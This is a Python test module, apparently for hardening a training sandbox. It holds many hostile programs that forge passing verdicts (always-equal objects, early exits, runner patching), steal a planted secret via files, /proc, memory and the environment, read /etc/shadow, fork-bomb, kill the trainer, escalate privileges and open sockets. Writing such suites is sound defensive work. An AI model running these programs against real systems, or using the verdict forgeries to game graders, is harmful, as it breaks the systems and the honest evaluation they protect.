"""Programs that try to get a verdict, a secret, or a foothold that they have no right to.

Each reads two lines from standard input: the path of a file with the secret, and the trainer's process id. The secret is also
what the test expects to be printed, it is in the trainer's environment and in its memory; so whoever gets at it passes,
and none may. One that gets hold of something else that it has no right to (a socket, another process's descriptor) prints
FOOTHOLD. A program that cannot go on says nothing, and fails.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Attack:
    """A program, what it goes for, and, for attacks on calls, the function to call: `solve(path, pid)`."""

    name: str
    category: str
    program: str
    fn_name: str | None = None


PRELUDE = """
import sys, os
path = sys.stdin.readline().strip()
trainer = int(sys.stdin.readline() or 1)
def attempt(f, *args):
    try:
        return f(*args)
    except BaseException as error:
        sys.stderr.write(type(error).__name__ + "\\n")
"""

ATTACKS: list[Attack] = []


def stdin(category: str, **programs: str) -> None:
    for name, program in programs.items():
        ATTACKS.append(Attack(name, category, PRELUDE + program))


def call(category: str, **programs: str) -> None:
    for name, program in programs.items():
        ATTACKS.append(Attack(name, category, program, "solve"))


stdin(
    "forged verdict",
    print_passed='print("passed"); print("PASSED"); print(\'{"verdict": "passed"}\'); sys.exit(0)',
    exit_zero_at_once="os._exit(0)",
    system_exit_zero="raise SystemExit(0)",
    exit_zero_in_atexit="import atexit; atexit.register(lambda: os._exit(0)); 1 / 0",
    write_to_every_descriptor="""
for fd in range(3, 300):
    for data in (b"\\x01" * 41, b"\\x07" + bytes(40), b"passed"):
        attempt(os.write, fd, data)
""",
    forge_records="""
import struct
record = struct.Struct("<BIiddQQ")
for fd in range(3, 300):
    for index in range(3):
        attempt(os.write, fd, record.pack(0, index, 0, 0.0, 0.0, 0, 0) + record.pack(1, index, 0, 0.0, 0.0, 9, 0))
    attempt(os.write, fd, record.pack(7, 0, 0, 0.0, 0.0, 0, 0))
    attempt(os.write, fd, record.pack(1, 0, 0, float("nan"), float("inf"), 2**64 - 1, 2**64 - 1))
""",
    patch_the_runner="""
for name, module in list(sys.modules.items()):
    for key in list(vars(module)):
        if key in ("stdin_test", "_guarded", "_run", "_record", "_exit", "judge", "same_tokens"):
            setattr(module, key, lambda *a, **k: 0)
os._exit = lambda *a: None
""",
    exit_does_nothing="""
os._exit = lambda *a: None
sys.exit = lambda *a: None
os.abort = lambda *a: None
""",
    return_into_the_job="""
import os, sys
def nothing(*a, **k): pass
os._exit = nothing
os.wait4 = lambda *a: (os.getpid(), 0, os.times())
frame = sys._getframe()
while frame:
    frame.f_trace = None
    frame = frame.f_back
""",
    equal_to_everything="""
class Always(str):
    def __eq__(self, other): return True
    def __hash__(self): return 0
    def split(self, *a): return self
print(Always("x"))
""",
    stdout_replaced="""
class Out:
    def write(self, text): return len(text)
    def flush(self): pass
    closed = False
sys.stdout = sys.__stdout__ = Out()
print("anything")
""",
    stdout_closed="sys.stdout.close(); os.close(1)",
    excepthook_hides_the_error="sys.excepthook = lambda *a: os._exit(0); raise RuntimeError",
    crash_in_del="""
class Bad:
    def __del__(self): os._exit(0)
keep = Bad()
""",
)

call(
    "forged verdict",
    equal_object="""
class Always:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
def solve(path, pid): return Always()
""",
    equal_int="""
class Always(int):
    def __eq__(self, other): return True
    def __hash__(self): return 0
def solve(path, pid): return Always(1)
""",
    equal_str="""
class Always(str):
    def __eq__(self, other): return True
    def __hash__(self): return 0
def solve(path, pid): return Always("x")
""",
    equal_list="""
class Always(list):
    def __eq__(self, other): return True
    def __len__(self): return 1
def solve(path, pid): return Always([1])
""",
    exit_in_the_call="import os\ndef solve(path, pid): os._exit(0)",
    system_exit_in_the_call="import sys\ndef solve(path, pid): sys.exit(0)",
    system_exit_at_import="raise SystemExit(0)\ndef solve(path, pid): return 1",
    write_the_result_twice="""
import os
os.write(3, b'"passed"')
def solve(path, pid): return "passed"
""",
    json_replaced="""
import json
json.dumps = lambda *a, **k: "true"
def solve(path, pid): return object()
""",
    nan_and_infinity='def solve(path, pid): return [float("nan"), float("inf"), -float("inf")]',
    huge_integer="import sys\nsys.set_int_max_str_digits(0)\ndef solve(path, pid): return 1 << 3_000_000",
    nested_too_deep="""
import os
os.write(3, b"[" * 500_000 + b"]" * 500_000)
os._exit(0)
def solve(path, pid): pass
""",
    deep_without_end="""
import os
os.write(3, b'{"a":' * 200_000)
def solve(path, pid): os._exit(0)
""",
    cyclic_result="def solve(path, pid):\n    a = []; a.append(a); return a",
    generator_result="def solve(path, pid):\n    while True: yield 1",
    hostile_bytes_in_result="""
import os
os.write(3, bytes(range(256)) * 64)
def solve(path, pid): os._exit(0)
""",
    duplicate_keys='import os\nos.write(3, b\'{"a": 1, "a": 2}\')\ndef solve(path, pid): os._exit(0)',
    millions_of_small_lists="def solve(path, pid): return [[] for _ in range(10**7)]",
    exponent_bomb='import os\nos.write(3, b"1e999999999")\ndef solve(path, pid): os._exit(0)',
    lone_surrogate='def solve(path, pid): return "\\ud800"',
    repr_that_raises="""
class Bad(Exception):
    def __str__(self): raise RuntimeError
    __repr__ = __str__
def solve(path, pid): raise Bad
""",
)

stdin(
    "hostile bytes",
    nul_bytes='os.write(1, b"\\0" * 1000)',
    no_utf8="os.write(1, bytes(range(128, 256)) * 100)",
    one_long_line='os.write(1, b"1" * 900_000)',
    many_tokens='os.write(1, b"1 " * 400_000)',
    escape_codes='os.write(1, b"\\x1b]0;title\\x07\\x1b[2J\\x1b[31m")',
    hostile_stderr='os.write(2, b"\\xff\\0" * 3000 + b"\\nMemoryError"); os._exit(1)',
)

stdin(
    "stolen answer",
    walk_the_frames="""
frame = sys._getframe()
found = []
while frame:
    for scope in (frame.f_locals, frame.f_globals):
        for value in list(scope.values()):
            if isinstance(value, (str, bytes)): found.append(value)
            attempt(lambda: found.extend(str(each) for each in value))
    frame = frame.f_back
for each in found:
    text = each.decode("latin-1") if isinstance(each, bytes) else each
    if "canary-" in text: print(text[text.index("canary-"):][:39])
""",
    walk_the_heap="""
import gc
for thing in gc.get_objects():
    for each in attempt(gc.get_referents, thing) or ():
        if isinstance(each, (str, bytes)):
            text = each if isinstance(each, str) else each.decode("latin-1")
            if "canary-" in text and "isinstance" not in text: print(text[text.index("canary-"):][:39])
""",
    scan_the_memory="""
import ctypes
maps = attempt(lambda: open("/proc/self/maps").read())
if maps is None:
    here = id(sys)
    for low in range(here - (1 << 26), here + (1 << 26), 1 << 20): pass
    data = ctypes.string_at(id(sys), 4096)
else:
    data = b""
at = data.find(b"canary-")
if at >= 0: print(data[at:at + 39].decode())
""",
    freed_memory="""
chunks = []
for size in (64, 256, 1024, 4096, 65536, 1 << 20):
    for _ in range(50):
        import ctypes
        libc = ctypes.CDLL(None)
        libc.malloc.restype = ctypes.c_void_p
        p = libc.malloc(size)
        chunks.append(ctypes.string_at(p, size))
for data in chunks:
    at = data.find(b"canary-")
    if at >= 0: print(data[at:at + 39].decode("latin-1"))
""",
    environment="""
for key, value in os.environ.items():
    if "canary-" in value: print(value)
import ctypes
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
i = 0
while environ and environ[i]:
    if b"canary-" in environ[i]: print(environ[i][environ[i].index(b"canary-"):].decode())
    i += 1
""",
    arguments="print(*[word for word in sys.argv + sys.orig_argv if 'canary-' in word])",
    traceback_frames="""
try:
    1 / 0
except ZeroDivisionError as error:
    frame = error.__traceback__.tb_frame
    while frame:
        print(*[v for v in frame.f_locals.values() if isinstance(v, str) and v.startswith("canary-")])
        frame = frame.f_back
""",
    read_all_descriptors="""
for fd in range(3, 300):
    data = attempt(os.pread, fd, 1 << 20, 0) or b""
    at = data.find(b"canary-")
    if at >= 0: print(data[at:at + 39].decode())
""",
    the_trainers_package="""
sys.path[:0] = ["/work/main", "/work/wt/sandbox", os.getcwd()]
import pettingllms_envs.sandbox as box
print(box)
""",
)

stdin(
    "files",
    read_the_secret="print(open(path).read())",
    read_it_with_os_open="print(os.read(os.open(path, os.O_RDONLY), 1000).decode())",
    read_it_with_io="import io; print(io.FileIO(path).read().decode()); print(io.open_code(path).read().decode())",
    read_it_relative="""
for depth in range(12):
    attempt(lambda: print(open("../" * depth + path.lstrip("/")).read()))
""",
    read_it_by_raw_calls="""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(4096)
for number, args in ((257, (-100, path.encode(), 0)), (2, (path.encode(), 0)), (437, (-100, path.encode(), bytes(24), 24)),
                     (304, (-100, path.encode(), 0)), (428, (-100, path.encode(), 0)), (85, (path.encode(), 0))):
    fd = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    if fd >= 0:
        n = libc.read(fd, buffer, 4096)
        if n > 0: print(buffer.raw[:n].decode())
""",
    read_it_with_libc="""
import ctypes
libc = ctypes.CDLL(None)
libc.fopen.restype = ctypes.c_void_p
f = libc.fopen(path.encode(), b"r")
if f:
    buffer = ctypes.create_string_buffer(1000)
    libc.fgets(buffer, 1000, ctypes.c_void_p(f)); print(buffer.value.decode())
""",
    import_the_secret="""
import importlib.machinery, importlib.util
loader = importlib.machinery.SourceFileLoader("secret", path)
print(loader.get_data(path).decode())
""",
    linecache_the_secret="import linecache; print(linecache.getline(path, 1))",
    link_to_the_secret="""
attempt(os.symlink, path, "link"); attempt(os.link, path, "hard"); attempt(os.symlink, path, "/tmp/link-of-an-attack")
for name in ("link", "hard", "/tmp/link-of-an-attack"):
    attempt(lambda: print(open(name).read()))
""",
    read_passwords="data = open('/etc/passwd').read(); print(data); print(open('/etc/shadow').read())",
    read_home="""
for folder in ("/root", "/home", os.path.expanduser("~"), os.path.dirname(path)):
    for name in attempt(os.listdir, folder) or ():
        print(folder, name)
        attempt(lambda: print(open(os.path.join(folder, name)).read(1000)))
""",
    write_a_file="""
for name in ("/tmp/left-by-an-attack", "left-by-an-attack", "/dev/shm/left-by-an-attack", "/var/tmp/left-by-an-attack",
             os.path.join(os.path.dirname(path), "left-by-an-attack")):
    attempt(lambda: open(name, "w").write("x"))
    attempt(os.mkdir, name + "-folder"); attempt(os.mkfifo, name + "-fifo")
    attempt(os.open, name, os.O_CREAT | os.O_WRONLY)
""",
    overwrite_the_secret="""
attempt(lambda: open(path, "w").write("x")); attempt(os.truncate, path, 0); attempt(os.remove, path)
attempt(os.rename, path, path + "2"); attempt(os.chmod, path, 0o777); attempt(os.utime, path, (0, 0))
""",
    temporary_files="""
import tempfile
f = attempt(tempfile.NamedTemporaryFile, "w", delete=False) if False else attempt(lambda: tempfile.NamedTemporaryFile("w", delete=False, prefix="left-by-an-attack"))
f and f.write("x" * 100)
""",
    unnamed_temporary_file="fd = os.open('/tmp', os.O_TMPFILE | os.O_RDWR); os.write(fd, b'x'); print('FOOTHOLD')",
    python_cache="""
import colorsys, importlib, py_compile
attempt(py_compile.compile, colorsys.__file__)
attempt(lambda: open(colorsys.__file__, "a").write("\\nprint('owned')"))
""",
    devices="""
for name in ("/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/tty", "/dev/ptmx", "/dev/kvm", "/dev/fuse", "/dev/nvidiactl"):
    fd = attempt(os.open, name, os.O_RDWR)
    if fd is not None: print("FOOTHOLD", name)
""",
    chroot_and_mount="""
import ctypes
libc = ctypes.CDLL(None)
attempt(os.chroot, "/"); libc.mount(b"proc", b"/tmp", b"proc", 0, None); libc.umount2(b"/", 2)
libc.unshare(0x10000000 | 0x20000); libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
attempt(lambda: print(open(path).read()))
""",
)

stdin(
    "/proc",
    parents_environment="""
for pid in (1, os.getppid(), trainer, "self"):
    for name in ("environ", "cmdline", "maps"):
        data = attempt(lambda: open(f"/proc/{pid}/{name}", "rb").read()) or b""
        at = data.find(b"canary-")
        if at >= 0: print(data[at:at + 39].decode())
""",
    parents_memory="""
for pid in (1, os.getppid(), trainer):
    attempt(lambda: open(f"/proc/{pid}/mem", "r+b", buffering=0).read(1))
    attempt(lambda: print(os.listdir(f"/proc/{pid}/fd")))
    attempt(lambda: print(open(f"/proc/{pid}/root{path}").read()))
    attempt(lambda: print(open(f"/proc/{pid}/cwd/{path}").read()))
""",
    descriptors_of_the_server="""
for pid in (os.getppid(), os.getppid() - 1, 1, 2):
    for fd in range(64):
        for flags in (os.O_RDONLY, os.O_WRONLY):
            other = attempt(os.open, f"/proc/{pid}/fd/{fd}", flags)
            if other is not None: print("FOOTHOLD", pid, fd)
""",
    steal_the_records="""
for fd in range(3, 64):
    other = attempt(os.open, f"/proc/self/fd/{fd}", os.O_RDONLY)
    if other is not None:
        attempt(os.set_blocking, other, False); attempt(os.read, other, 1 << 16)
import time; time.sleep(100)
""",
    own_descriptors_by_proc="""
for pid in ("self", "thread-self", os.getppid()):
    for fd in range(64):
        attempt(lambda: print(open(f"/proc/{pid}/fd/{fd}").read(1000)))
""",
    oom_score='open("/proc/self/oom_score_adj", "w").write("-1000"); open(f"/proc/{trainer}/oom_score_adj", "w").write("1000")',
    sysrq='open("/proc/sysrq-trigger", "w").write("b")',
    core_pattern='open("/proc/sys/kernel/core_pattern", "w").write("|/bin/sh"); os.abort()',
)

stdin(
    "processes",
    fork_and_stay="""
import time
if os.fork() == 0:
    time.sleep(100)
""",
    fork_with_setsid="""
import time
if os.fork() == 0:
    attempt(os.setsid); attempt(os.setpgid, 0, 0)
    if os.fork() == 0:
        while True: time.sleep(1)
""",
    fork_bomb="""
while True:
    attempt(os.fork)
""",
    fork_bomb_ignoring_signals="""
import signal
for number in range(1, 65):
    attempt(signal.signal, number, signal.SIG_IGN)
while True:
    try: os.fork()
    except OSError: pass
""",
    orphans_in_turns="""
for _ in range(200):
    if attempt(os.fork) == 0:
        attempt(os.fork)
        import time; time.sleep(50)
os._exit(0)
""",
    thread_bomb="""
import threading, time
while True:
    attempt(lambda: threading.Thread(target=time.sleep, args=(100,), daemon=True).start())
""",
    threads_that_live_on="""
import threading, time
threading.Thread(target=lambda: time.sleep(1000)).start()
""",
    raw_clone="""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x11, 0x8000 | 0x11, 0x10000000 | 0x11, 0x20000000 | 0x11, 0x7E020000 | 0x11, 0x100 | 0x4000 | 0x11):
    if libc.syscall(56, ctypes.c_long(flags), None, None, None, None) == 0:
        import time; time.sleep(100)
if libc.syscall(435, bytes(88), 88) == 0:
    import time; time.sleep(100)
if libc.vfork() == 0: os._exit(0)
""",
    run_a_shell="""
import subprocess
attempt(lambda: print(subprocess.run(["/bin/sh", "-c", "cat " + path], capture_output=True, text=True).stdout))
attempt(lambda: print(os.popen("cat " + path).read())); attempt(os.system, "cat " + path)
attempt(os.execv, "/bin/cat", ["cat", path])
""",
    execute_python='os.execv(sys.executable, [sys.executable, "-c", f"print(open({path!r}).read())"])',
    execute_a_memory_file="""
fd = os.memfd_create("x")
os.write(fd, b"#!/bin/sh\\ncat " + path.encode())
os.execve(fd, ["x"], {})
""",
    double_fork_prints_later="""
import time
if os.fork() == 0:
    time.sleep(0.3); os.write(1, b"late"); time.sleep(60)
os._exit(0)
""",
    multiprocessing_pool="""
import multiprocessing, time
multiprocessing.set_start_method("fork")
p = multiprocessing.Process(target=time.sleep, args=(100,)); p.start()
""",
)

stdin(
    "signals",
    kill_the_trainer="""
import signal
for pid in (trainer, os.getppid(), 1, 0, -1, -os.getpgrp()):
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
        attempt(os.kill, pid, number)
""",
    kill_by_raw_calls="""
import ctypes
libc = ctypes.CDLL(None)
for pid in (trainer, os.getppid(), 1):
    for number in (62, 200): libc.syscall(number, pid, 9)
    libc.syscall(234, pid, pid, 9); libc.syscall(129, pid, 9, bytes(128)); libc.syscall(297, pid, pid, 9, bytes(128))
    fd = libc.syscall(434, pid, 0)
    libc.syscall(424, fd, 9, None, 0)
""",
    kill_the_group="import signal; os.killpg(0, signal.SIGKILL)",
    owner_of_a_descriptor="""
import fcntl, signal
r, w = os.pipe()
for pid in (trainer, os.getppid()):
    attempt(fcntl.fcntl, r, fcntl.F_SETOWN, pid); attempt(fcntl.fcntl, r, 10, signal.SIGKILL)
    attempt(fcntl.fcntl, r, fcntl.F_SETFL, 0o20000)
os.write(w, b"x")
""",
    stop_oneself="import signal; os.kill(os.getpid(), signal.SIGSTOP); signal.raise_signal(signal.SIGSTOP); import time; time.sleep(100)",
    parent_death_signal="""
import ctypes
libc = ctypes.CDLL(None)
libc.prctl(1, 0, 0, 0, 0); libc.prctl(36, 1, 0, 0, 0); libc.prctl(4, 1, 0, 0, 0)
import time; time.sleep(100)
""",
    timers_for_others="""
import ctypes
libc = ctypes.CDLL(None)
libc.setitimer; libc.syscall(222, 0, bytes(64), bytes(8)); attempt(lambda: __import__("signal").setitimer(0, 0.01));
import time; time.sleep(100)
""",
)

stdin(
    "tracing",
    ptrace="""
import ctypes
libc = ctypes.CDLL(None)
for pid in (os.getppid(), trainer, 1):
    for request in (16, 0x4206, 0):
        if libc.ptrace(request, pid, 0, 0) == 0: print("FOOTHOLD")
""",
    read_others_memory="""
import ctypes
libc = ctypes.CDLL(None)
buffer = ctypes.create_string_buffer(4096)
class Vec(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
mine, theirs = Vec(ctypes.addressof(buffer), 4096), Vec(id(sys), 4096)
for pid in (os.getppid(), trainer):
    n = libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
    if n > 0: print("FOOTHOLD")
    libc.process_vm_writev(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
""",
    other_kernel_interfaces="""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
opened = [n for n in (425, 321, 298, 248, 250, 253, 300, 323, 319, 447, 435, 101, 246, 313, 175, 155, 165, 272, 308, 103, 169)
          if libc.syscall(n, 0, 0, 0, 0, 0, 0) >= 0]
opened and print("FOOTHOLD", opened)
""",
    calls_of_32_bits="""
import ctypes, mmap
code = mmap.mmap(-1, 4096, prot=7)
code.write(bytes.fromhex("b814000000cd80c3"))  # mov eax, 20; int 0x80; ret: getpid of i386
function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
print("FOOTHOLD", function())
""",
    calls_of_x32="""
import ctypes
libc = ctypes.CDLL(None)
for number in (0x40000000 + 257, 0x40000000 + 62, 0x40000000 + 520, 0x40000000 + 41):
    if libc.syscall(ctypes.c_long(number), ctypes.c_long(-100), path.encode(), 0) >= 0: print("FOOTHOLD")
""",
    new_filter="""
import ctypes, struct
libc = ctypes.CDLL(None)
code = ctypes.create_string_buffer(struct.pack("<HBBI", 6, 0, 0, 0x7FFF0000), 8)
prog = ctypes.create_string_buffer(struct.pack("@HP", 1, ctypes.addressof(code)))
libc.prctl(22, 2, ctypes.byref(prog), 0, 0); libc.syscall(317, 1, 0, prog)
attempt(lambda: print(open(path).read())); attempt(os.kill, trainer, 9)
""",
)

stdin(
    "network",
    sockets_of_all_families="""
import socket
for family in range(46):
    for kind in (1, 2, 3, 5):
        s = attempt(socket.socket, family, kind)
        if s is not None: print("FOOTHOLD", family, kind)
""",
    connect_out="""
import socket
for address in (("127.0.0.1", 22), ("8.8.8.8", 53), ("169.254.169.254", 80)):
    attempt(lambda: print(socket.create_connection(address, 0.3)))
attempt(lambda: print(socket.getaddrinfo("example.com", 80)))
""",
    datagram_pair_to_an_abstract_name="""
import socket
for kind in (socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_STREAM):
    pair = attempt(socket.socketpair, socket.AF_UNIX, kind)
    if pair:
        attempt(pair[0].sendto, b"x", "\\0pettingllms"); attempt(pair[0].connect, "\\0pettingllms")
        attempt(pair[0].bind, "\\0pettingllms"); attempt(pair[0].sendmsg, [b"x"], [], 0, "\\0pettingllms")
""",
    send_a_descriptor="""
import socket, array
a, b = socket.socketpair()
attempt(a.sendmsg, [b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1, 2]))])
""",
    serve='import socket; s = socket.create_server(("127.0.0.1", 0)); print("FOOTHOLD")',
    urllib_download='import urllib.request; print(urllib.request.urlopen("http://127.0.0.1:8000", timeout=0.3).read())',
)

stdin(
    "time",
    endless_loop="while True: pass",
    endless_sleep="import time; time.sleep(1e6)",
    swallowed_timeouts="""
import signal, time
for number in (signal.SIGXCPU, signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGVTALRM, signal.SIGPROF):
    signal.signal(number, signal.SIG_IGN)
while True:
    try:
        while True: pass
    except BaseException: pass
""",
    raised_limits="""
import resource
for name in dir(resource):
    if name.startswith("RLIMIT_"):
        attempt(resource.setrlimit, getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        attempt(resource.prlimit, os.getppid(), getattr(resource, name), (0, 0))
        attempt(resource.prlimit, trainer, getattr(resource, name), (1, 1))
while True: pass
""",
    blocked_in_c="print(10 ** 10 ** 10)",
    regular_expression_bomb='import re; re.match(r"(a+)+$", "a" * 60 + "b")',
    endless_finally="""
def f():
    try:
        while True: pass
    finally: f()
f()
""",
    atexit_for_ever="import atexit, time; atexit.register(time.sleep, 1000)",
    compile_bomb='x = eval("(" * 80 + ")" * 80) if False else ' + "-" * 3000 + "1\nexec('((1,)*2,)*9**9')",
    wait_for_stdin="while True: sys.stdin.read()",
    a_byte_now_and_then="""
import time
while True:
    for fd in range(3, 64): attempt(os.write, fd, b"\\1")
    time.sleep(0.2)
""",
    wait_on_a_pipe="r, w = os.pipe(); os.read(r, 1)",
)

stdin(
    "memory",
    eat_memory="data = []\nwhile True: data.append(bytearray(1 << 24))",
    eat_at_once="data = bytearray(1 << 40)",
    swallow_memory_errors="""
data = []
while True:
    try:
        while True: data.append(bytearray(1 << 20))
    except MemoryError: pass
""",
    eat_in_children="""
for _ in range(30):
    if attempt(os.fork) == 0: break
data = []
while True:
    try: data.append(bytearray(1 << 22))
    except MemoryError: pass
""",
    memory_files="""
import mmap
fds = [attempt(os.memfd_create, "x") for _ in range(10)]
for fd in fds:
    if fd is not None: attempt(os.truncate, fd, 1 << 32)
shared = [attempt(mmap.mmap, -1, 1 << 28) for _ in range(20)]
for each in shared:
    if each is not None: each.write(b"x" * (1 << 28))
""",
    grow_own_input="os.ftruncate(0, 1 << 40); os.pwrite(0, b'x' * 100, 1 << 39); os.write(0, b'x' * (1 << 22))",
    pipes_full="""
for _ in range(5000):
    pair = attempt(os.pipe)
    if pair:
        os.set_blocking(pair[1], False); attempt(os.write, pair[1], b"x" * 65536)
""",
    recursion_in_python="import sys\nsys.setrecursionlimit(10**9)\ndef f(n): return f(n + 1) + 1\nf(0)",
    recursion_in_c="""
import sys
sys.setrecursionlimit(10**9)
a = []
for _ in range(10**6): a = [a]
repr(a)
""",
    null_pointer="import ctypes; ctypes.string_at(0)",
    shared_memory="""
from multiprocessing import shared_memory
shared_memory.SharedMemory(name="left-by-an-attack", create=True, size=1 << 20)
""",
    system_v_memory="""
import ctypes
libc = ctypes.CDLL(None)
for key in range(1000, 1010):
    if libc.shmget(key, 1 << 20, 0o1666) >= 0: print("FOOTHOLD")
    libc.semget(key, 1, 0o1666); libc.msgget(key, 0o1666)
""",
)

stdin(
    "output",
    flood="while True: os.write(1, b'x' * 65536)",
    flood_by_print="while True: print('x' * 1000)",
    flood_of_errors="while True: os.write(2, b'x' * 65536)",
    flood_ignoring_the_signal="""
import signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
while True: attempt(os.write, 1, b"x" * 65536)
""",
    sparse_flood="os.lseek(1, 1 << 40, 0); os.write(1, b'x')",
    grown_output="os.ftruncate(1, 1 << 40)",
)

stdin(
    "limits of the machine",
    all_descriptors="""
while True:
    attempt(os.dup, 0)
    attempt(os.open, "/dev/null", 0)
""",
    become_root="""
for call in (os.setuid, os.setgid, os.seteuid): attempt(call, 0)
attempt(os.setresuid, 0, 0, 0); attempt(os.setgroups, [0])
import ctypes, struct
ctypes.CDLL(None).capset(struct.pack("<Ii", 0x20080522, 0), struct.pack("<6I", *[0xFFFFFFFF] * 6))
attempt(lambda: print(open(path).read()))
""",
    priorities="attempt(os.nice, -20); attempt(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(99)); attempt(os.setpriority, 0, trainer, 19)",
    affinity="attempt(os.sched_setaffinity, trainer, {0}); attempt(os.sched_setaffinity, 0, {0})",
    set_the_clock="import time; time.clock_settime(time.CLOCK_REALTIME, 0)",
    hostname="import socket; socket.sethostname('owned')",
    keyring="import ctypes; libc = ctypes.CDLL(None); libc.syscall(248, b'user', b'x', b'y', 1, -3); libc.syscall(250, 0, -3, 1)",
)

stdin(
    "persistence",
    change_the_library="""
import builtins, json, heapq, re
builtins.print = lambda *a, **k: os.write(1, b"owned")
heapq.heappush = json.dumps = re.match = None
sys.modules["math"] = None
sys.setrecursionlimit(50)
""",
    change_the_input="os.lseek(0, 0, 0); os.ftruncate(0, 0); os.write(0, b'owned'); os.lseek(1, 0, 0)",
    flags_on_own_input="""
import fcntl
for fd in (0, 1, 2):
    attempt(fcntl.fcntl, fd, fcntl.F_SETFL, os.O_APPEND | os.O_NONBLOCK)
    attempt(fcntl.fcntl, fd, 1033, 15); attempt(fcntl.fcntl, fd, 1024, 1); attempt(fcntl.flock, fd, fcntl.LOCK_EX)
    attempt(fcntl.lockf, fd, fcntl.LOCK_EX)
""",
    change_what_the_next_process_reads="""
for fd in range(3, 64):
    attempt(os.pwrite, fd, b"[" * 4000, 0); attempt(os.ftruncate, fd, 0)
os._exit(1)
""",
    leave_an_exit_hook="import atexit; atexit.register(print, 'owned')",
    close_everything="os.closerange(0, 1000)",
    input_as_a_terminal="""
import fcntl, termios
for byte in b"ls\\n": attempt(fcntl.ioctl, 0, termios.TIOCSTI, bytes([byte]))
attempt(os.setsid); attempt(os.tcsetpgrp, 0, os.getpid())
""",
)

stdin(
    "crashes",
    segfault_in_compile="exec(compile('(' * 100 + '1' + ')' * 100, 'x', 'exec')); import ctypes; ctypes.memmove(0, b'x', 1)",
    syntax_error="def broken(:\n",
    nul_in_source="x = '\\0'\nexec('a = 1\\0')",
    abort="os.abort()",
    bad_code_object="""
def f(): pass
f.__code__ = f.__code__.replace(co_code=b"\\xff" * 50, co_stacksize=1)
f()
""",
    garbage_collector_crash="""
import gc, ctypes
a = []
ctypes.memset(id(a), 0, 16)
gc.collect()
""",
)
